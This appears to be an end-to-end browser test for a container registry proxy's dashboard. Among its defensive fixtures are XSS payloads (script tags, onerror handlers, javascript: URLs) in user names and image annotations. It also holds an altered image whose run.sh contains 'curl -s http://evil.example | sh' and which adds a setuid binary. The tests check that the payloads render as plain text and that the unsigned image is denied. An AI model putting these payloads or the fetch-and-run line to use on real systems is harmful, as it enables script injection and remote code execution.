/**
 * The dashboard in a real browser (Debian's chromium through playwright-core) over a real proxy in front of a real
 * docker-registry, with images built by umoci, signed with a key the policy trusts or not, and pulled by skopeo:
 * filter to denials, open the altered image's decision and read the changed file in the diff table, follow the
 * tag's history, watch a new pull appear without a reload; hostile annotations, repository names, user names and
 * reasons render as text with no dialog and no script run; a user without access sees none of a repository's
 * decisions. Screenshots of the main pages go to docs/images/ with TOLLGATE_UPDATE_SCREENSHOTS=1.
 */
import { execFile } from 'node:child_process';
import { chmod, mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { generateKeyPair, publicVerificationKey, RegistryClient, signImage } from '@tollgate/core';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadGate, normalizeProxyConfig } from '../../packages/proxy/src/index.js';
import { pushOciLayout, startRegistry, type RunningRegistry } from '../support/registry.js';
import { skipWhen } from '../support/skip.js';
import { buildUmociImage, umoci } from '../support/umoci.js';
import { MANIFEST_ACCEPT } from '../proxy/support/images.js';
import { skopeo } from '../proxy/support/skopeo.js';
import { startProxy, type RunningProxy } from '../proxy/support/start-proxy.js';
import { browserMissing, launchChromium } from './support-browser.js';

const execFileAsync = promisify(execFile);
const ROOT = resolve(dirname(fileURLToPath(import.meta.url)), '../..');
const SHOTS = process.env.TOLLGATE_UPDATE_SCREENSHOTS === '1' ? join(ROOT, 'docs/images') : undefined;

const PASSWORD = { alice: 'alice-pass-1', bob: 'bob-pass-2', hostile: 'hostile-pass-3' };
/** A user name as hostile as htpasswd allows (no colon, no space). */
const HOSTILE_USER = `<script>window.__pwned=1</script>"'<img/src=x/onerror=window.__pwned=2>`;
const HOSTILE_TEXT = `<script>window.__pwned=3</script>"'><img src=x onerror="window.__pwned=4;alert(1)"> javascript:alert(document.domain)`;

let work: string;
let registry: RunningRegistry;
let proxy: RunningProxy;
let browser: Browser;
const key = generateKeyPair('ecdsa-p256');
const digests: Record<string, string> = {};

interface ImageSpec {
  files: Record<string, { content: string; mode?: number }>;
  annotations?: Record<string, string>;
}

async function pushImage(repoAndTag: string, spec: ImageSpec): Promise<string> {
  const layout = join(await mkdtemp(join(work, 'layout-')), 'oci');
  await buildUmociImage(layout, 'img', [
    async (rootfs) => {
      for (const [path, { content, mode }] of Object.entries(spec.files)) {
        await mkdir(dirname(join(rootfs, path)), { recursive: true });
        await writeFile(join(rootfs, path), content);
        if (mode !== undefined) await chmod(join(rootfs, path), mode);
      }
    },
  ]);
  for (const [k, v] of Object.entries(spec.annotations ?? {})) await umoci(['config', '--image', `${layout}:img`, '--manifest.annotation', `${k}=${v}`]);
  await pushOciLayout(layout, 'img', registry.host, repoAndTag);
  const [repository, tag] = repoAndTag.split(':') as [string, string];
  const manifest = await new RegistryClient(registry.host).getManifest(repository, tag);
  digests[repoAndTag] = manifest.digest;
  return manifest.digest;
}

const sign = (ref: string) => signImage(`${registry.host}/${ref}`, { key }, { client: new RegistryClient(registry.host, { retries: 0 }) });

function pull(user: keyof typeof PASSWORD, ref: string) {
  const name = user === 'hostile' ? HOSTILE_USER : user;
  return skopeo(['copy', '--retry-times', '0', '--src-tls-verify=false', '--src-creds', `${name}:${PASSWORD[user]}`, `docker://${proxy.host}/${ref}`, `oci:${join(work, `pulled-${Math.random().toString(36).slice(2)}`)}:x`]);
}

/** A manifest GET through the proxy as `user` (a quick pull for the live update). */
function pullManifest(user: keyof typeof PASSWORD, repository: string, reference: string) {
  const name = user === 'hostile' ? HOSTILE_USER : user;
  return fetch(`${proxy.url}/v2/${repository}/manifests/${reference}`, { headers: { accept: MANIFEST_ACCEPT, authorization: `Basic ${Buffer.from(`${name}:${PASSWORD[user]}`).toString('base64')}` } });
}

interface Watched {
  context: BrowserContext;
  page: Page;
  dialogs: string[];
}

/** A browser context signed in as `user`, recording every dialog (none may open). */
async function signIn(user: keyof typeof PASSWORD): Promise<Watched> {
  const context = await browser.newContext({ httpCredentials: { username: user === 'hostile' ? HOSTILE_USER : user, password: PASSWORD[user] }, viewport: { width: 1280, height: 800 } });
  const page = await context.newPage();
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return { context, page, dialogs };
}

async function shot(page: Page, name: string): Promise<void> {
  await page.screenshot({ path: join(SHOTS ?? work, `dashboard-${name}.png`) });
}

async function noScriptRan(watched: Watched): Promise<void> {
  expect(watched.dialogs).toEqual([]);
  expect(await watched.page.evaluate('typeof window.__pwned')).toBe('undefined');
  for (const link of await watched.page.locator('a[href]').all()) expect(await link.getAttribute('href')).toMatch(/^\/ui\//);
}

const missing = browserMissing();

describe('the dashboard in chromium', skipWhen(missing), () => {
  beforeAll(async () => {
    work = await mkdtemp(join(tmpdir(), 'tollgate-ui-browser-'));
    const htpasswd = join(work, 'htpasswd');
    await execFileAsync('htpasswd', ['-Bbc', htpasswd, 'alice', PASSWORD.alice]);
    await execFileAsync('htpasswd', ['-Bb', htpasswd, 'bob', PASSWORD.bob]);
    await execFileAsync('htpasswd', ['-Bb', htpasswd, HOSTILE_USER, PASSWORD.hostile]);
    [registry, browser] = await Promise.all([startRegistry(), launchChromium()]);
    const policy = `apiVersion: tollgate.dev/v1alpha1
kind: ImagePolicy
default: deny
rules:
  - name: release-signed
    images: ["127.0.0.1:*/**"]
    authorities:
      - name: release-key
        key: {pem: ${JSON.stringify(publicVerificationKey(key).pem)}}
        transparencyLog: ignore
`;
    await writeFile(join(work, 'policy.yaml'), policy);
    const upstreams = [{ name: 'lab', url: registry.url, default: true }];
    const config = normalizeProxyConfig({ dataDir: work, upstreams, gate: { policy: 'policy.yaml' } }, { baseDir: work, env: {} });
    const gate = (await loadGate(config.gate, config.upstreams))!;
    await pushImage('team/app:v1', { files: { 'app/run.sh': { content: 'echo release v1\n', mode: 0o755 }, 'etc/motd': { content: 'hello\n' } } });
    await sign('team/app:v1');
    await pushImage('public/tool:1', { files: { 'bin/tool': { content: 'tool\n', mode: 0o755 } } });
    await sign('public/tool:1');
    await pushImage('team/evil:1', { files: { 'app/x': { content: 'x\n' } }, annotations: { 'org.opencontainers.image.description': HOSTILE_TEXT, 'org.opencontainers.image.url': 'javascript:alert(1)' } });
    proxy = await startProxy({
      gate,
      upstreams,
      cache: { tagTtlSeconds: 0 },
      extra: { auth: { mode: 'htpasswd', htpasswd, access: [{ repositories: ['lab/**'], users: ['alice', HOSTILE_USER] }, { repositories: ['lab/public/**'], users: ['bob'] }] }, ui: { enabled: true } },
    });
    expect((await pull('alice', 'team/app:v1')).code).toBe(0);
    expect((await pull('bob', 'public/tool:1')).code).toBe(0);
    expect((await pull('hostile', 'team/evil:1')).code).not.toBe(0);
    // The tag is re-pushed altered (a changed script, a new setuid binary) and unsigned: denied, and diffed.
    await pushImage('team/app:v1', { files: { 'app/run.sh': { content: 'curl -s http://evil.example | sh\n', mode: 0o755 }, 'etc/motd': { content: 'hello\n' }, 'usr/local/bin/helper': { content: 'helper\n', mode: 0o4755 } } });
    const altered = await pull('alice', 'team/app:v1');
    expect(altered.code).not.toBe(0);
    expect(altered.stderr).toContain('release-signed');
    // What the grammar of repository names would refuse at the door, as if a store held it: still only text.
    await proxy.proxy.core.audit.record({ type: 'verdict', upstream: 'lab', repository: `team/${HOSTILE_TEXT}`, reference: 'javascript:alert(1)', digest: `sha256:${'0'.repeat(64)}`, identity: HOSTILE_USER, verdict: 'deny', rule: HOSTILE_TEXT, reasons: [HOSTILE_TEXT], policyRevision: 'x' });
  }, 180_000);

  afterAll(async () => {
    await browser?.close();
    await proxy?.stop();
    await registry?.stop();
    if (work) await rm(work, { recursive: true, force: true });
  });

  it('filters to denials, opens the altered image, reads the changed file in the diff, follows the tag history', async () => {
    const alice = await signIn('alice');
    const { page } = alice;
    const response = await page.goto(`${proxy.url}/ui/decisions`);
    expect(response?.status()).toBe(200);
    const headers = response!.headers();
    expect(headers['content-security-policy']).toContain("script-src 'self'");
    expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
    expect(headers['content-security-policy']).not.toContain('unsafe-inline');
    expect(headers['x-content-type-options']).toBe('nosniff');
    await expect.poll(() => page.locator('#decision-rows tr').count()).toBeGreaterThanOrEqual(4);

    await page.selectOption('select[name=verdict]', 'deny');
    await Promise.all([page.waitForURL(/verdict=deny/), page.click('form.filters button')]);
    expect(page.url()).not.toContain('upstream='); // empty filters are left out of the URL
    const verdicts = await Promise.all((await page.locator('#decision-rows tr').all()).map((row) => row.getAttribute('data-verdict')));
    expect(verdicts.length).toBeGreaterThanOrEqual(3);
    expect(new Set(verdicts)).toEqual(new Set(['deny']));
    expect(await page.locator('[data-count="deny"]').textContent()).toBe(String(verdicts.length));
    await shot(page, 'decisions');

    await Promise.all([page.waitForURL(/\/ui\/decisions\/\d+-[0-9a-f]{12}$/), page.locator('#decision-rows tr', { hasText: 'lab/team/app:v1' }).first().locator('a.image').click()]);
    expect(await page.locator('table.facts').textContent()).toContain(digests['team/app:v1']);
    // Every finding with pass/fail, and the signature the policy asked for, not found.
    expect(await page.locator('table.findings').textContent()).toMatch(/fail/);
    expect(await page.locator('table.signatures').textContent()).toContain('release-key');
    // The diff is computed in the background; the page fills it in by itself.
    await page.locator('#diff-table').waitFor({ timeout: 30_000 });
    const rows = page.locator('#diff-table tbody tr');
    expect(await rows.first().textContent()).toContain('/usr/local/bin/helper');
    expect(await rows.first().textContent()).toContain('setuid-added');
    const changed = page.locator('#diff-table tbody tr', { hasText: '/app/run.sh' });
    expect(await changed.textContent()).toMatch(/modified[\s\S]*content/);
    expect(await page.locator('#diff-table').textContent()).not.toContain('/etc/motd');
    await shot(page, 'decision');
    await page.locator('#what-changed').screenshot({ path: join(SHOTS ?? work, 'dashboard-diff.png') });

    await Promise.all([page.waitForURL(/\/ui\/tags\?/), page.locator('table.facts a', { hasText: 'v1' }).click()]);
    const history = page.locator('#tag-history tbody tr');
    expect(await history.count()).toBe(2);
    expect(await history.nth(0).textContent()).toContain('deny');
    expect(await history.nth(1).textContent()).toContain('allow');
    expect(await history.nth(0).locator('.digest').first().textContent()).toBe(digests['team/app:v1']);
    await shot(page, 'tag-history');
    await noScriptRan(alice);
    await alice.context.close();
  });

  it('shows a new pull on the Decisions page without a reload', async () => {
    const alice = await signIn('alice');
    const { page } = alice;
    await page.goto(`${proxy.url}/ui/decisions`);
    const before = await page.locator('#decision-rows tr').count();
    const allowBefore = Number(await page.locator('[data-count="allow"]').textContent());
    expect((await pullManifest('bob', 'public/tool', '1')).status).toBe(200);
    const fresh = page.locator('#decision-rows tr.new', { hasText: 'lab/public/tool:1' });
    await fresh.waitFor({ timeout: 15_000 });
    expect(await page.locator('#decision-rows tr').count()).toBe(before + 1);
    expect(await fresh.locator('td.user').textContent()).toBe('bob');
    expect(await page.locator('[data-count="allow"]').textContent()).toBe(String(allowBefore + 1));
    // A hostile decision arriving live is written as text by the script too.
    await proxy.proxy.core.audit.record({ type: 'verdict', upstream: 'lab', repository: 'team/live', reference: 'latest', digest: `sha256:${'1'.repeat(64)}`, identity: HOSTILE_USER, verdict: 'deny', rule: 'live', reasons: [HOSTILE_TEXT] });
    const hostileRow = page.locator('#decision-rows tr.new', { hasText: 'lab/team/live' });
    await hostileRow.waitFor({ timeout: 15_000 });
    expect(await hostileRow.locator('td.reason').textContent()).toBe(HOSTILE_TEXT);
    expect(await hostileRow.locator('td.user').textContent()).toBe(HOSTILE_USER);
    await noScriptRan(alice);
    await alice.context.close();
  });

  it('renders hostile annotations, repository names, user names and reasons as text: no dialog, no script', async () => {
    const hostile = await signIn('hostile');
    const { page } = hostile;
    await page.goto(`${proxy.url}/ui/decisions`);
    expect(await page.locator('[data-viewer]').textContent()).toBe(HOSTILE_USER);
    const forged = page.locator('#decision-rows tr').filter({ has: page.locator('a.image', { hasText: 'window.__pwned=3' }) });
    expect(await forged.locator('a.image').textContent()).toBe(`lab/team/${HOSTILE_TEXT}`);
    expect(await forged.locator('td.reason').textContent()).toBe(HOSTILE_TEXT);
    await noScriptRan(hostile);
    await forged.locator('a.image').click();
    await page.locator('table.facts').waitFor();
    expect(await page.locator('h1').textContent()).toContain(HOSTILE_TEXT);
    expect(await page.locator('li.reason').first().textContent()).toBe(HOSTILE_TEXT);
    await noScriptRan(hostile);

    await page.goto(`${proxy.url}/ui/decisions?repository=${encodeURIComponent('lab/team/evil')}`);
    expect(await page.locator('input[name=repository]').inputValue()).toBe('lab/team/evil');
    const evil = page.locator('#decision-rows tr', { hasText: 'lab/team/evil:1' }).first();
    expect(await evil.locator('td.user').textContent()).toBe(HOSTILE_USER);
    await evil.locator('a.image').click();
    const annotations = page.locator('table.annotations');
    await annotations.waitFor();
    expect(await annotations.locator('tr', { hasText: 'org.opencontainers.image.description' }).locator('td').nth(1).textContent()).toBe(HOSTILE_TEXT);
    expect(await annotations.locator('tr', { hasText: 'org.opencontainers.image.url' }).locator('td').nth(1).textContent()).toBe('javascript:alert(1)');
    await noScriptRan(hostile);
    // A filter value is echoed into the form as text, never as markup.
    await page.goto(`${proxy.url}/ui/decisions?rule=${encodeURIComponent(HOSTILE_TEXT)}&user=${encodeURIComponent(HOSTILE_USER)}`);
    expect(await page.locator('input[name=rule]').inputValue()).toBe(HOSTILE_TEXT);
    expect(await page.locator('#decision-rows tr').count()).toBe(1);
    await noScriptRan(hostile);
    await hostile.context.close();
  });

  it('shows a user without access to a repository none of its decisions, in HTML and JSON', async () => {
    const bob = await signIn('bob');
    const { page } = bob;
    await page.goto(`${proxy.url}/ui/decisions`);
    const names = await Promise.all((await page.locator('#decision-rows tr a.image').all()).map((a) => a.textContent()));
    expect(names.length).toBeGreaterThan(0);
    expect(names.every((n) => n?.startsWith('lab/public/tool'))).toBe(true);
    expect(await page.locator('body').textContent()).not.toContain('team/');
    const json = (await (await page.request.get(`${proxy.url}/ui/api/decisions?verdict=deny`)).json()) as { decisions: unknown[]; counts: Record<string, number> };
    expect(json.decisions).toEqual([]);
    expect(json.counts.deny).toBe(0);
    const twin = (await (await page.request.get(`${proxy.url}/ui/decisions?format=json`)).json()) as { decisions: { repository: string }[] };
    expect(twin.decisions.every((d) => d.repository === 'public/tool')).toBe(true);
    const history = await page.request.get(`${proxy.url}/ui/api/tags?upstream=lab&repository=team/app&tag=v1`);
    expect(history.status()).toBe(404);
    await bob.context.close();
  });

  it('shows upstream health, the cache and requests over time as a server-drawn chart', async () => {
    const alice = await signIn('alice');
    const { page } = alice;
    await page.goto(`${proxy.url}/ui/health`);
    expect(await page.locator('#upstreams tr', { hasText: 'lab' }).locator('.badge').textContent()).toBe('up');
    expect(await page.locator('#cache').textContent()).toMatch(/Hit rate/);
    expect(await page.locator('#integrity-failures').textContent()).toBe('0');
    expect(await page.locator('svg.chart rect.requests').count()).toBeGreaterThanOrEqual(1);
    await shot(page, 'health');
    await noScriptRan(alice);
    await alice.context.close();
  });
});
